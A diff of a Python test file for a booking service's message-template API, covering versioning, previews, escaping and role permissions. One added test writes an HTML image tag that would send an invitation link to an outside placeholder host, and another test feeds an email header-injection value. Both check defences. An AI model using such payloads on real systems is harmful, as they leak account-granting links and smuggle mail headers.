@@ -2,7 +2,7 @@
 
 import asyncio
 from dataclasses import dataclass
-from uuid import uuid4
+from uuid import UUID, uuid4
 
 import httpx
 import psycopg
@@ -29,6 +29,7 @@ class Desk:
     """Staff of one business."""
 
     http: httpx.AsyncClient
+    business_id: UUID
     key: str
 
     async def call(self, method: str, path: str, body: Json | None = None, **asked: object) -> httpx.Response:
@@ -45,7 +46,7 @@ async def open_desk(http: httpx.AsyncClient, database: Database) -> Desk:
     async with database.transaction() as tx:
         slug = f"m-{uuid4().hex[:12]}"
         business = await businesses.put(tx, slug=slug, name="Test", timezone="UTC", currency="EUR")
-    return Desk(http, await make_key(database, business.id, Role.ASSISTANT))
+    return Desk(http, business.id, await make_key(database, business.id, Role.ASSISTANT))
 
 
 @pytest_asyncio.fixture
@@ -64,6 +65,18 @@ async def test_a_template_is_written_in_versions(desk: Desk) -> None:
     assert (await desk.call("GET", MAIL)).json() == listed
     assert (await desk.call("GET", MAIL, version="1")).json()["body"] == "one {{ start }}"
     problem(await desk.call("GET", MAIL, version="3"), 404, "unknown_template")
+
+
+async def test_who_invites_nobody_writes_no_invitation(desk: Desk, database: Database) -> None:
+    """A key of an assistant writes no text of an invitation, whose link makes whoever has it the user; one of an owner
+    does (D-7, W-2).
+    """
+    path = f"{PATH}/user_invitation/ru/email_html"
+    text = {"subject": "s", "body": '<img src="https://example.org/?{{ invitation_link }}">'}
+    problem(await desk.write(path, **text), 403, "forbidden")
+    assert (await desk.call("GET", PATH)).json()["templates"] == []
+    owner = Desk(desk.http, desk.business_id, await make_key(database, desk.business_id, Role.OWNER))
+    assert (await owner.write(path, **text)).json()["version"] == 1
 
 
 async def test_the_messages_say_what_may_stand_in_them(desk: Desk) -> None:
@@ -140,7 +153,10 @@ async def test_a_preview_shows_what_a_client_would_see(desk: Desk) -> None:
     """A preview fills in examples, escapes them in HTML, refuses slips with their place, and writes nothing."""
     asked = {"kind": "appointment_confirmed", "channel": "email_html", **HELLO}
     shown = (await desk.call("POST", f"{PATH}/preview", asked)).json()
-    assert shown == {"subject": "Individual session", "body": "Hello Guest,\nsee you on 21.11.2026, 15:00."}
+    assert shown == {
+        "subject": "Individual session",
+        "body": "Hello Guest,\nsee you on Saturday, 21 November 2026, 15:00.",
+    }
     assert wrong_fields(await desk.call("POST", f"{PATH}/preview", asked | {"body": "{{ x }}"})) == {"body"}
     problem(await desk.call("POST", f"{PATH}/preview", asked | {"kind": "x"}), 404, "unknown_message")
     assert (await desk.call("GET", PATH)).json()["templates"] == []
@@ -160,7 +176,7 @@ def test_values_are_shown_and_never_run() -> None:
     values = {"guest_name": "{{ start }} <b>\r\nBcc: someone", "start": "noon"}
     text = Text("Hello {{ guest_name }}", "Hello {{ guest_name }}")
     assert rendered(Channel.EMAIL_HTML, text, values) == Text(
-        "Hello {{ start }} <b> Bcc: someone", "Hello {{ start }} &lt;b&gt;\r\nBcc: someone"
+        "Hello {{ start }} <b> Bcc: someone", "Hello {{ start }} &lt;b&gt;<br>\nBcc: someone"
     )
     assert rendered(Channel.SMS, Text(None, text.body), values).body == f"Hello {values['guest_name']}"
 
